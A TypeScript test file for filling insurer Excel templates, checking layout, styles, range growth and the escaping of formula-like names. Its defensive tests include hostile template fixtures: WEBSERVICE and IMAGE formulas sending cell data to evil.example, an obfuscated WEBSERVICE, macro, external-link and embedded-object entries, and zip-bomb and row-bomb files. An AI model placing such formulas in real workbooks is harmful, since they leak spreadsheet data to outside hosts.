import { strFromU8, unzipSync } from "fflate";
import { formatColumn, type InsurerFormat } from "@/lib/domain/insurer-formats/format";
import { neutralFormatOf } from "@/lib/domain/insurer-formats/neutral-formats";
import { fillTemplate } from "@/lib/sheets/insurer-formats/fill-template";
import { readTemplate } from "@/lib/sheets/insurer-formats/read-template";
import { growRange } from "@/lib/sheets/insurer-formats/row-move";
import { writeInsurerFile } from "@/lib/sheets/insurer-formats/write-insurer-file";
import { readWorkbook } from "@/lib/sheets/read/read-workbook";
import { MAX_PASSES, passesOf } from "../../../support/passes";
import { FACTS, MEMBERS } from "./members";
import { SHEET, templateOfSheet, templateWith } from "./template";

const HEADINGS = ["S.No", "Emp Code", "Name", "Gender", "DOB", "Age", "Sum Insured (Lakhs)", "Name (2)"];

const FORMAT: InsurerFormat = {
  ...(neutralFormatOf("Care Health Insurance", "GMC") as InsurerFormat),
  sheets: {
    ...(neutralFormatOf("Care Health Insurance", "GMC") as InsurerFormat).sheets,
    ADD: {
      sheet: "Additions",
      template: { fileName: "template_1.xlsx", sheet: "Additions", row: 4, headings: HEADINGS },
      columns: [
        formatColumn({ header: "Name (2)", source: "nominee" }),
        formatColumn({ header: "S.No", source: "seq" }),
        formatColumn({ header: "Emp Code", source: "employeeId" }),
        formatColumn({ header: "Name", source: "name", letters: "UPPER" }),
        formatColumn({ header: "Gender", source: "gender", words: [{ code: "female", word: "F" }] }),
        formatColumn({ header: "DOB", source: "dob", dates: "date" }),
        formatColumn({ header: "Age", source: "age" }),
        formatColumn({ header: "Sum Insured (Lakhs)", source: "sumInsured", unit: "LAKHS" }),
      ],
    },
  },
};

const [ASHA, VIKRAM] = MEMBERS as [(typeof MEMBERS)[number], (typeof MEMBERS)[number]];
const LIVES = [
  { ...ASHA, nominees: [{ name: "Dev & Rao", relationship: "spouse", dob: null, sharePercent: 100 }] },
  { ...VIKRAM, newSumInsured: 750_000 },
  { ...ASHA, employeeId: "007", name: "=SUM(1)", dob: null, newSumInsured: null },
];

async function fill(template: Uint8Array, members = LIVES) {
  const { bytes } = await writeInsurerFile(FORMAT, members, FACTS, async () => template);
  return bytes;
}

const partsOf = (bytes: Uint8Array) =>
  new Map(Object.entries(unzipSync(bytes)).map(([name, content]) => [name, strFromU8(content)] as const));

test("the insurer's workbook is unchanged but for the rows: every other part is the same, in the same order", async () => {
  const template = templateWith();
  const [before, after] = [partsOf(template), partsOf(await fill(template))];
  expect([...after.keys()]).toEqual([...before.keys()]);
  const changed = [...before.keys()].filter((name) => before.get(name) !== after.get(name));
  expect(changed).toEqual(["xl/workbook.xml", "xl/worksheets/sheet1.xml"]);
  // The formulas beside the rows have the results of the empty template.
  expect(after.get("xl/workbook.xml")).toBe(
    before.get("xl/workbook.xml")?.replace("<calcPr", '<calcPr fullCalcOnLoad="1"'),
  );
});

test("rows above the headings, styles, formulas and the note below are the insurer's; rules reach the last row", async () => {
  const xml = partsOf(await fill(templateWith())).get("xl/worksheets/sheet1.xml") ?? "";
  const upTo = (text: string) => text.slice(0, text.indexOf('<row r="5"'));
  const from = (text: string) => text.slice(text.indexOf('<row r="40"'));
  expect(upTo(xml)).toBe(upTo(SHEET));
  expect(from(xml)).toBe(
    from(SHEET)
      .replace("A4:H5", "A4:H7")
      .replace("B5:B6", "B5:B7")
      .replace("D5:D6", "D5:D7")
      .replace("<xm:sqref>G5<", "<xm:sqref>G5:G7<"),
  );
  expect(xml.slice(xml.indexOf('<row r="5"'), xml.indexOf('<row r="40"'))).toBe(
    [
      '<row r="5" ht="18" customHeight="1"><c r="A5" s="2"><v>1</v></c>',
      '<c r="B5" s="2" t="inlineStr"><is><t xml:space="preserve">E1</t></is></c>',
      '<c r="C5" s="2" t="inlineStr"><is><t xml:space="preserve">ASHA RAO</t></is></c>',
      '<c r="D5" s="2" t="inlineStr"><is><t xml:space="preserve">F</t></is></c>',
      '<c r="E5" s="3"><v>33039</v></c>',
      '<c r="F5" s="2"><f>IF(E5="","",DATEDIF(E5,TODAY(),"Y"))</f><v></v></c>',
      '<c r="G5" s="4"><v>5</v></c>',
      '<c r="H5" s="2" t="inlineStr"><is><t xml:space="preserve">Dev &amp; Rao</t></is></c></row>',
      '<row r="6"><c r="A6" s="2"><v>2</v></c>',
      '<c r="B6" s="2" t="inlineStr"><is><t xml:space="preserve">E1</t></is></c>',
      '<c r="C6" s="2" t="inlineStr"><is><t xml:space="preserve">VIKRAM RAO</t></is></c>',
      '<c r="D6" s="2" t="inlineStr"><is><t xml:space="preserve">male</t></is></c>',
      '<c r="E6" s="3"><v>33039</v></c><c r="F6" s="2"><v>0</v></c><c r="G6" s="4"><v>7.5</v></c><c r="H6" s="2"/></row>',
      '<row r="7" ht="18" customHeight="1"><c r="A7" s="2"><v>3</v></c>',
      '<c r="B7" s="2" t="inlineStr"><is><t xml:space="preserve">007</t></is></c>',
      '<c r="C7" s="2" t="inlineStr"><is><t xml:space="preserve">=SUM(1)</t></is></c>',
      '<c r="D7" s="2" t="inlineStr"><is><t xml:space="preserve">F</t></is></c>',
      '<c r="E7" s="3"/><c r="F7" s="2"><v>35</v></c><c r="G7" s="4"/><c r="H7" s="2"/></row>',
    ].join(""),
  );
});

test("the filled workbook is read back with the same values", async () => {
  const sheets = await readWorkbook(await fill(templateWith()), { sheet: "all" });
  expect(sheets.map(({ name }) => name)).toEqual(["Additions"]);
  expect(sheets[0]?.rows.map(({ number, cells }) => [number, ...cells])).toEqual([
    [1, "CARE HEALTH & CO – MEMBER ADDITION FORM"],
    [2, "Policy no.", null, "as per schedule"],
    [4, "S.No", "Emp Code", "Name", "Gender", "DOB", "Age", "Sum Insured (Lakhs)", "Name"],
    [5, 1, "E1", "ASHA RAO", "F", { d: "1990-06-15" }, null, 5, "Dev & Rao"],
    [6, 2, "E1", "VIKRAM RAO", "male", { d: "1990-06-15" }, 0, 7.5],
    [7, 3, "007", "=SUM(1)", "F", null, 35],
    [40, "Signature"],
  ]);
});

test("35 rows fit above the note of row 40, the 36th moves it down", async () => {
  const lives = (count: number) => Array.from({ length: count }, () => ASHA);
  const [sheet] = await readWorkbook(await fill(templateWith(), lives(35) as never));
  expect(sheet?.rows.at(-2)?.number).toBe(39);
  const [longer] = await readWorkbook(await fill(templateWith(), lives(36) as never));
  expect(longer?.rows.slice(-2).map(({ number, cells }) => [number, cells[0]])).toEqual([
    [40, 36],
    [41, "Signature"],
  ]);
  const open = templateOfSheet((xml) => xml.replace(/<row r="40".*?<\/row>/, ""));
  expect((await readWorkbook(await fill(open, lives(36) as never)))[0]?.rows.at(-1)?.number).toBe(40);
});

test("a date in a cell without a date format gets one that otherwise looks the same", async () => {
  const parts = partsOf(await fill(templateOfSheet((xml) => xml.replace('<c r="E5" s="3"/>', '<c r="E5" s="2"/>'))));
  expect(parts.get("xl/worksheets/sheet1.xml")).toContain('<c r="E5" s="5"><v>33039</v></c>');
  const styles = parts.get("xl/styles.xml") ?? "";
  expect(styles).toContain('<cellXfs count="6">');
  expect(styles).toContain(
    '<xf numFmtId="14" applyNumberFormat="1" fontId="0" fillId="0" borderId="1" xfId="0" applyBorder="1"/></cellXfs>',
  );
});

test("a table from the headings on ends with the last row", async () => {
  const table = '<table id="1" name="T" ref="A4:H5"><autoFilter ref="A4:H5"/></table>';
  const rels = `<Relationships><Relationship Id="rId1" Type="http://x/table" Target="../tables/table1.xml"/></Relationships>`;
  const template = templateWith({ "xl/tables/table1.xml": table, "xl/worksheets/_rels/sheet1.xml.rels": rels });
  expect(partsOf(await fill(template)).get("xl/tables/table1.xml")).toBe(table.replaceAll("A4:H5", "A4:H7"));
});

test.each([
  ["D5:D104", "D5:D104"],
  ["D5:D6", "D5:D7"],
  ["D5", "D5:D7"],
  ["$D$1:$D$5", "$D$1:$D$7"],
  ["D1:D4", "D1:D4"],
  ["D6:D6", "D6:D6"],
  ["D:D", "D:D"],
])("with rows 5 to 7, %s becomes %s", (range, grown) => expect(growRange(range, 5, 7)).toBe(grown));

test("a template states its sheets with headings, row and empty rows; headings merged downwards end later", async () => {
  expect(await readTemplate(templateWith())).toEqual([{ sheet: "Additions", row: 4, headings: HEADINGS }]);
  const merged = templateOfSheet((xml) => xml.replace('<mergeCell ref="A1:H1"/>', '<mergeCell ref="A4:A5"/>'));
  const [sheet] = await readWorkbook(await fill(merged));
  expect(sheet?.rows[3]?.cells.slice(0, 3)).toEqual([1, "E1", "ASHA RAO"]);
  expect(sheet?.rows[3]?.number).toBe(6);
});

const SAFE = "Remove them in Excel, save it as Excel Workbook (.xlsx) and upload that file.";
test.each([
  [{ "xl/vbaProject.bin": "x" }, `This template has macros, which are not allowed. ${SAFE}`],
  [{ "xl/externalLinks/externalLink1.xml": "<a/>" }, "links to other files"],
  [{ "xl/embeddings/oleObject1.bin": "x" }, "embedded files"],
  [
    {
      "xl/worksheets/_rels/sheet1.xml.rels":
        '<Relationships><Relationship Id="r" Type="http://x/image" Target="https://evil.example" TargetMode="External"/></Relationships>',
    },
    "links to other files",
  ],
  [
    { "xl/worksheets/Sheet2.xml": '<worksheet><f>WEBSERVICE("https://evil.example/"&amp;A5)</f></worksheet>' },
    "formulas that load",
  ],
  [{ "[Content_Types].xml": "<Types>application/vnd.ms-excel.sheet.macroEnabled.main+xml</Types>" }, "macros"],
])("a hostile template is refused: %#", async (change, message) => {
  await expect(readTemplate(templateWith(change))).rejects.toThrow(message);
  await expect(fillTemplate(templateWith(change), [])).rejects.toThrow(message);
});

test("a file of unclosed rows is refused at once", async () => {
  const bomb = templateOfSheet((xml) => xml.replace("<sheetData>", `<sheetData>${"<row r='1'>".repeat(1_000_000)}`));
  const passes = await passesOf(() => expect(readTemplate(bomb)).rejects.toThrow());
  expect(passes).toBeLessThan(MAX_PASSES);
});

test.each([
  "&#87;EBSERVICE(A5)",
  "&#x57;EBSERVICE(A5)",
  "IF(A5&lt;1,_xlfn.WEBSERVICE(A5),1)",
  'IMAGE("https://evil.example/"&amp;A5)',
])("a formula that loads another file is found: %s", async (formula) => {
  const template = templateOfSheet((xml) => xml.replace("TODAY()", () => formula));
  await expect(readTemplate(template)).rejects.toThrow("formulas that load other files");
});

test("the words of such formulas in texts are allowed", async () => {
  const template = templateOfSheet((xml) => xml.replace("Policy no.", "Call (toll free), image (optional)"));
  expect(await readTemplate(template)).toHaveLength(1);
});

test("examples below the headings, another kind of file and bombs are refused with the reason", async () => {
  const example = templateOfSheet((xml) => xml.replace('<c r="B5" s="2"/>', '<c r="B5" s="2"><v>7</v></c>'));
  await expect(readTemplate(example)).rejects.toThrow(
    "The template has no empty row below its headings: row 5 is not empty.",
  );
  await expect(readTemplate(new TextEncoder().encode("Emp,Name\nE1,A"))).rejects.toThrow(
    "must be an Excel workbook (.xlsx)",
  );
  await expect(readTemplate(new Uint8Array(5 * 1024 * 1024 + 1))).rejects.toThrow("greater than 5 MB");
  await expect(readTemplate(templateWith({ "xl/media/a.png": "0".repeat(64 * 1024 * 1024) }))).rejects.toThrow(
    "far more data",
  );
  await expect(
    readTemplate(templateOfSheet((xml) => xml.replace("<sheetData>", "<sheetData><!-- -->"))),
  ).rejects.toThrow("damaged");
});
